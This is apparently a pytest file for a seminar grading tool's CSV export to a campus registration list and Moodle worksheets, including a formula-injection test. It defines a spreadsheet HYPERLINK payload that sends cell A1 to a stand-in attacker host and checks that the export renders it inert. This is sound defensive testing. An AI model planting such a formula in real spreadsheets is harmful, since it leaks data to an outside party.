"""The grade sheet and the filled registration list, read back by Python's csv module."""
import csv
import io

from seminar_cli import FIXTURES, ROOT, graded_seminar, seminar_bytes as run

MOODLE = ROOT / "Tests" / "Fixtures" / "moodle-grades"

# Fixtures/README.md: the expected finals.
EXPECTED = {
    "03705521": ("1.3", "2.0", "1.7", "passed"),
    "11902567": ("1.0", "3.0", "2.3", "passed"),
    "03689957": ("5.0", "2.3", "5.0", "failed"),
    "11958014": ("2.7", "", "", "incomplete"),
    "11853719": ("4.0", "4.0", "4.0", "passed"),
    "03727306": ("3.7", "4.0", "4.0", "passed"),
}
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def add_formula_student(tmp_path):
    run(tmp_path, "student", "add", "99000001", "--name", FORMULA_NAME, "--email", "formula@example.org")
    run(tmp_path, "grade", "set", "99000001", "--report", "1.0", "--presentation", "1.3")


def check_sheet(rows, decimal="."):
    assert rows[0] == ["id", "name", "email", "paper", "report", "presentation", "final", "status", "note"]
    by_id = {r[0]: r for r in rows[1:]}
    assert len(by_id) == len(rows) - 1, "one row per student"
    for sid, (report, presentation, final, status) in EXPECTED.items():
        r = by_id[sid]
        assert r[4:8] == [report.replace(".", decimal), presentation.replace(".", decimal), final.replace(".", decimal), status], sid
    # Students without any grade are not on the sheet.
    assert "11916675" not in by_id
    assert by_id["03712845"][1] == "Jonas Müller"
    # The formula-shaped name comes out as inert text: a spreadsheet would not evaluate it.
    name = by_id["99000001"][1]
    assert name == "'" + FORMULA_NAME
    for r in rows:
        for cell in r:
            assert not cell[:1] in ("=", "+", "@", "\t", "\r") and not (cell.startswith("-") and not cell[1:].replace(decimal, "").isdigit()), cell
    return by_id


def test_sheet_reads_back_with_csv_module(tmp_path):
    graded_seminar(tmp_path)
    add_formula_student(tmp_path)
    out = run(tmp_path, "grade", "export").stdout
    text = out.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    by_id = check_sheet(rows)
    assert len(by_id) == 18


def test_semicolon_bom_variant(tmp_path):
    graded_seminar(tmp_path)
    add_formula_student(tmp_path)
    target = tmp_path / "sheet.csv"
    run(tmp_path, "grade", "export", "--delimiter", ";", "--bom", "--output", target)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(target, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f, delimiter=";"))
    check_sheet(rows)
    assert b"," not in raw.split(b"\r\n")[0]   # the header is split by ; alone


def test_decimal_comma_variant(tmp_path):
    graded_seminar(tmp_path)
    add_formula_student(tmp_path)
    out = run(tmp_path, "grade", "export", "--delimiter", ";", "--bom", "--decimal-comma").stdout
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"), newline=""), delimiter=";"))
    check_sheet(rows, decimal=",")


def test_comma_sheet_with_decimal_comma_is_quoted(tmp_path):
    graded_seminar(tmp_path)
    add_formula_student(tmp_path)
    out = run(tmp_path, "grade", "export", "--decimal-comma").stdout
    rows = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    check_sheet(rows, decimal=",")


def test_registration_list_filled_byte_for_byte(tmp_path):
    graded_seminar(tmp_path)
    copy = tmp_path / "registration.csv"
    original = (FIXTURES / "registration.csv").read_bytes()
    copy.write_bytes(original)
    proc = run(tmp_path, "grade", "export", "--into", copy, "--id-column", "Matrikelnummer", "--grade-column", "Note")
    report = proc.stdout.decode("utf-8")
    assert "03791264" in report and "Lefèvre" in report  # the late registrant, not in the seminar

    filled = copy.read_bytes()
    # Same encoding, line endings, blank lines: parse both as the campus system writes them.
    old_text, new_text = original.decode("cp1252"), filled.decode("cp1252")
    assert old_text.count("\r\n") == new_text.count("\r\n")
    assert new_text.endswith("\r\n\r\n")
    old_rows = list(csv.reader(io.StringIO(old_text, newline=""), delimiter=";"))
    new_rows = list(csv.reader(io.StringIO(new_text, newline=""), delimiter=";"))
    assert len(old_rows) == len(new_rows)
    grade_col = old_rows[0].index("Note")
    grades = {}
    for old, new in zip(old_rows, new_rows):
        assert len(old) == len(new)
        assert old[:grade_col] + old[grade_col + 1:] == new[:grade_col] + new[grade_col + 1:]
        if new and new[0] != "Matrikelnummer":
            grades[new[0]] = new[grade_col]
    assert grades["03705521"] == "1,7"
    assert grades["11902567"] == "2,3"
    assert grades["03689957"] == "5,0"
    assert grades["11853719"] == "4,0"
    assert grades["11958014"] == ""   # incomplete
    assert grades["11741026"] == ""   # no grades
    assert grades["03791264"] == ""   # not in the seminar

    # Byte for byte: the file with the grade cells emptied again is the original.
    lines_old = original.split(b"\r\n")
    lines_new = filled.split(b"\r\n")
    assert len(lines_old) == len(lines_new)
    for a, b in zip(lines_old, lines_new):
        fa, fb = a.split(b";"), b.split(b";")
        assert len(fa) == len(fb)
        if len(fb) > grade_col:
            fb[grade_col] = fa[grade_col]
        assert b";".join(fb) == a

    # Filling again changes nothing.
    run(tmp_path, "grade", "export", "--into", copy)
    assert copy.read_bytes() == filled


def read_moodle(raw):
    """A Moodle CSV as its upload reads it: UTF-8, the BOM dropped, `,`-separated."""
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_moodle_worksheets_filled_with_report_grades(tmp_path):
    graded_seminar(tmp_path)
    for name, id_col, grade_col, email_col, decimal in [
        ("worksheet-en.csv", "ID number", "Grade", "Email address", "."),
        ("worksheet-de.csv", "ID-Nummer", "Bewertung", "E-Mail-Adresse", ","),
    ]:
        original = (MOODLE / name).read_bytes()
        copy = tmp_path / name
        copy.write_bytes(original)
        proc = run(tmp_path, "grade", "export", "--into", copy, "--id-column", id_col, "--grade-column", grade_col,
                   "--component", "report")
        assert b"Decided: decimal " in proc.stdout
        filled = copy.read_bytes()
        assert filled.startswith(b"\xef\xbb\xbf") and b"\r" not in filled  # BOM and LF kept
        old_rows, new_rows = read_moodle(original), read_moodle(filled)
        assert old_rows[0] == new_rows[0] and len(old_rows) == len(new_rows)
        grade = old_rows[0].index(grade_col)
        grades = {}
        for old, new in zip(old_rows[1:], new_rows[1:]):
            assert old[:grade] + old[grade + 1:] == new[:grade] + new[grade + 1:]
            assert old[grade] == ""
            grades[new[old_rows[0].index(id_col)] or new[old_rows[0].index(email_col)]] = new[grade]
        assert grades["03705521"] == "1.30".replace(".", decimal)
        assert grades["03689957"] == "5.00".replace(".", decimal)
        assert grades["thi-lan.nguyen@tum.de"] == "2.70".replace(".", decimal)  # no ID number: by e-mail
        assert grades["03791264"] == ""  # in Moodle, not in the seminar
        assert grades["11916675"] == ""  # no report grade
        # Every grade is a number Moodle's upload reads (unformat_float in the user's language).
        for value in grades.values():
            if value:
                assert 1.0 <= float(value.replace(decimal, ".")) <= 5.0


def test_moodle_scale_mismatch_leaves_the_worksheet_alone(tmp_path):
    graded_seminar(tmp_path)
    copy = tmp_path / "worksheet.csv"
    original = (MOODLE / "worksheet-en.csv").read_bytes().replace(b",5.00,", b",100.00,")
    copy.write_bytes(original)
    proc = run(tmp_path, "grade", "export", "--into", copy, "--id-column", "ID number", "--grade-column", "Grade",
               "--component", "report", check=False)
    assert proc.returncode == 65
    assert b"scale mismatch" in proc.stderr
    assert copy.read_bytes() == original


def test_broken_import_changes_nothing(tmp_path):
    graded_seminar(tmp_path)
    before = run(tmp_path, "grade", "export", "--all").stdout
    proc = run(tmp_path, "grade", "import", FIXTURES / "broken" / "grades-off-scale.csv", check=False)
    assert proc.returncode == 65
    assert b"grades-off-scale.csv:5:10:" in proc.stderr
    assert run(tmp_path, "grade", "export", "--all").stdout == before
